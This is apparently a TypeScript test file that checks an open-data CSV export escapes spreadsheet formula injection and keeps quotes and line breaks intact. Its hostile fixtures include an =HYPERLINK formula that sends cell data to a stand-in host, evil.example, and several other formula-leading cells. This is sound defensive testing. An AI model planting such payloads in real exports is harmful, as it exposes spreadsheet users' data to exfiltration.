import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import {
  CommitteeSeatSchema,
  CountrySchema,
  DocumentSchema,
  EventSchema,
  HostingCommitmentSchema,
  InitiativeSchema,
  InstitutionSchema,
  LANGS,
  TopicSchema,
} from "../../model/index.js";
import { type PublicSnapshot, type PublicSourceRecords, publicSnapshotOf } from "../../views/public-snapshot.js";
import { DATASETS, type Dataset, datasetCsv, isDataset, snapshotJson } from "./open-data.js";

const empty: PublicSnapshot = {
  network: null,
  countries: [],
  institutions: [],
  members: [],
  topics: [],
  events: [],
  documents: [],
  initiatives: [],
  committee: [],
  commitments: [],
};

/** A record an editor could save: every cell a spreadsheet or a naive CSV writer would mishandle. */
const hostile: PublicSnapshot = {
  ...empty,
  institutions: [
    {
      id: "hostile",
      kind: "procurement-agency",
      name: {
        es: '=HYPERLINK("http://evil.example/?"&A1,"Clic")',
        en: 'The "Agency", Inc.\nSecond line; third',
        // A bare line feed and no comma or quote: only the line break asks for quotes.
        pt: "+55 11 1234\nSegunda linha",
        fr: "@SUM(A1:A9)",
      },
      acronym: "-2+3",
      countryId: "CL",
      website: "https://example.org/a,b",
      source: "\tTab-led source\r\nwith a CRLF",
    },
  ],
};

/**
 * Reads a table as spreadsheets do: any line break outside quotes (CRLF, LF or CR) ends a row.
 * csv-parse alone would settle on the CRLF it meets first and read a bare LF as text.
 */
const rows = (csv: string) =>
  parse(csv, { bom: true, columns: true, relax_quotes: false, record_delimiter: ["\r\n", "\n", "\r"] }) as Record<
    string,
    string
  >[];

describe("CSV tables", () => {
  it("quotes commas, quotes and newlines so the record reads back intact", () => {
    const [row] = rows(datasetCsv(hostile, "institutions"));
    expect(row?.name_en).toBe('The "Agency", Inc.\nSecond line; third');
    expect(row?.website).toBe("https://example.org/a,b");
    expect(row?.name_pt).toBe("'+55 11 1234\nSegunda linha");
  });

  it("neutralizes cells a spreadsheet would run as formulas", () => {
    const csv = datasetCsv(hostile, "institutions");
    const [row] = rows(csv);
    expect(row?.name_es).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Clic")`);
    expect(row?.name_pt).toBe("'+55 11 1234\nSegunda linha");
    expect(row?.name_fr).toBe("'@SUM(A1:A9)");
    expect(row?.acronym).toBe("'-2+3");
    expect(row?.source).toBe("'\tTab-led source\r\nwith a CRLF");
    expect(csv).not.toMatch(/(^|[,\n])"?[=+@-]/);
  });

  it("leaves ordinary text and numbers untouched", () => {
    const [row] = rows(datasetCsv(hostile, "institutions"));
    expect(row?.id).toBe("hostile");
    expect(row?.countryId).toBe("CL");
    const withTerm: PublicSnapshot = {
      ...empty,
      commitments: [
        {
          id: "chile-site",
          hostCountryId: "CL",
          scope: { es: "Sitio" },
          offeredAtEventId: "seminar",
          termMonths: 12,
          status: "offered",
          source: "test",
        },
      ],
    };
    expect(rows(datasetCsv(withTerm, "commitments"))[0]).toMatchObject({
      termMonths: "12",
      scope_en: "",
      status: "offered",
    });
  });

  it("has one column per language for every localized field, whatever the content", () => {
    const header = datasetCsv(empty, "events")
      .replace(/^\uFEFF/, "")
      .split("\r\n")[0]
      ?.split(",");
    for (const lang of ["es", "en", "pt", "fr"]) {
      expect(header).toContain(`title_${lang}`);
      expect(header).toContain(`summary_${lang}`);
      expect(header).toContain(`city_${lang}`);
    }
  });

  it("starts with a byte-order mark so spreadsheets read UTF-8 accents", () => {
    expect(datasetCsv(empty, "countries").startsWith("\uFEFFid,name_es")).toBe(true);
  });

  it("publishes only the listed collections", () => {
    expect(DATASETS.every(isDataset)).toBe(true);
    expect(isDataset("members")).toBe(false);
    expect(isDataset("memberContacts")).toBe(false);
  });
});

/**
 * Text an editor can save (the schemas trim each value, so a tab or a formula character can lead a
 * later line but not a trimmed value's first; its first character is covered by the rows above).
 */
const TEXTS = [
  "First paragraph.\n\nSecond paragraph, after a bare line feed.",
  "Line one\r\nLine two",
  "Old Mac line\rNext line",
  'The "Agency", Inc.',
  '=HYPERLINK("http://evil.example/?"&A1,"Clic")',
  "+56 2 2290 4400",
  "-2+3",
  "@SUM(A1:A9)",
  "Intro\n=1+1\n+2\r\n-3\n@SUM(A1)\n\tindented",
  "Name\ttab, inside",
];

/** The rule of docs/open-data.md, in reverse: one apostrophe before = + - @, a tab or a CR (or ＝ ＋ － ＠) was added. */
const unescapeFormula = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20])/, "");

/**
 * Records of every published collection whose every free-text value is one of TEXTS, tagged with
 * the CSV column it must come back in; `expected` collects, per dataset, each column's text.
 */
function hostileRecords() {
  const expected = Object.fromEntries(DATASETS.map((d) => [d, new Map<string, string>()])) as Record<
    Dataset,
    Map<string, string>
  >;
  let n = 0;
  const text = (dataset: Dataset, column: string) => {
    const value = `${TEXTS[n++ % TEXTS.length]} [${column}]`;
    expected[dataset].set(column, value);
    return value;
  };
  const localized = (dataset: Dataset, name: string) =>
    Object.fromEntries(LANGS.map((lang) => [lang, text(dataset, `${name}_${lang}`)]));
  const records: PublicSourceRecords = {
    network: [],
    members: [],
    countries: [
      CountrySchema.parse({
        id: "CL",
        name: localized("countries", "name"),
        oasMember: true,
        source: text("countries", "source"),
      }),
    ],
    institutions: [
      InstitutionSchema.parse({
        id: "agency",
        kind: "procurement-agency",
        name: localized("institutions", "name"),
        acronym: text("institutions", "acronym"),
        countryId: "CL",
        source: text("institutions", "source"),
      }),
    ],
    events: [
      EventSchema.parse({
        id: "seminar",
        kind: "seminar",
        title: localized("events", "title"),
        summary: localized("events", "summary"),
        status: "held",
        city: localized("events", "city"),
        source: text("events", "source"),
      }),
    ],
    documents: [
      DocumentSchema.parse({
        id: "report",
        kind: "news",
        title: localized("documents", "title"),
        summary: localized("documents", "summary"),
        body: { es: "Cuerpo" },
        translations: { es: "original" },
        status: "published",
        publishedOn: "2005-06",
        version: 1,
        source: text("documents", "source"),
      }),
    ],
    topics: [
      TopicSchema.parse({
        id: "topic",
        name: localized("topics", "name"),
        priority: "high",
        order: 1,
        source: text("topics", "source"),
      }),
    ],
    initiatives: [
      InitiativeSchema.parse({
        id: "initiative",
        name: localized("initiatives", "name"),
        coordinatorIds: ["agency"],
        crossLink: "linked",
        source: text("initiatives", "source"),
      }),
    ],
    committee: [
      CommitteeSeatSchema.parse({
        id: "CL",
        countryId: "CL",
        basis: "hosted",
        eventId: "seminar",
        since: "2005-06",
        source: text("committee", "source"),
      }),
    ],
    commitments: [
      HostingCommitmentSchema.parse({
        id: "site",
        hostCountryId: "CL",
        scope: localized("commitments", "scope"),
        offeredAtEventId: "seminar",
        termMonths: 12,
        status: "offered",
        source: text("commitments", "source"),
      }),
    ],
  };
  return { records, expected };
}

describe("open data round trip", () => {
  const { records, expected } = hostileRecords();
  const snapshot = publicSnapshotOf(records);

  it("gives back every text of every table exactly, line breaks, quotes and formula characters included", () => {
    for (const dataset of DATASETS) {
      const table = rows(datasetCsv(snapshot, dataset));
      expect(table, dataset).toHaveLength(1);
      const [row] = table;
      for (const [column, text] of expected[dataset]) {
        expect(row?.[column], `${dataset}.${column}`).toBeDefined();
        expect(unescapeFormula(row?.[column] ?? ""), `${dataset}.${column}`).toBe(text);
      }
    }
    // Every value in TEXTS went through at least one table.
    expect([...Object.values(expected)].reduce((sum, columns) => sum + columns.size, 0)).toBeGreaterThan(TEXTS.length);
  });

  it("escapes a cell's start and leaves a later line of a quoted cell as written", () => {
    const formulaStart = /^[=+\-@]/;
    const formulaLine = /[\r\n][=+\-@\t]/;
    let checked = 0;
    for (const dataset of DATASETS) {
      const csv = datasetCsv(snapshot, dataset);
      const [row] = rows(csv);
      for (const [column, text] of expected[dataset]) {
        const cell = row?.[column] ?? "";
        if (formulaStart.test(text)) expect(cell, column).toBe(`'${text}`);
        if (formulaLine.test(text) && !formulaStart.test(text)) {
          expect(cell, column).toBe(text);
          expect(csv, column).toContain(`"${text.replaceAll('"', '""')}"`);
          checked++;
        }
      }
    }
    expect(checked).toBeGreaterThan(0);
  });

  it("gives back every record of the JSON download exactly", () => {
    expect(JSON.parse(snapshotJson(snapshot))).toEqual(snapshot);
    expect(JSON.parse(snapshotJson(snapshot)).institutions[0].name).toEqual(records.institutions[0]?.name);
  });
});
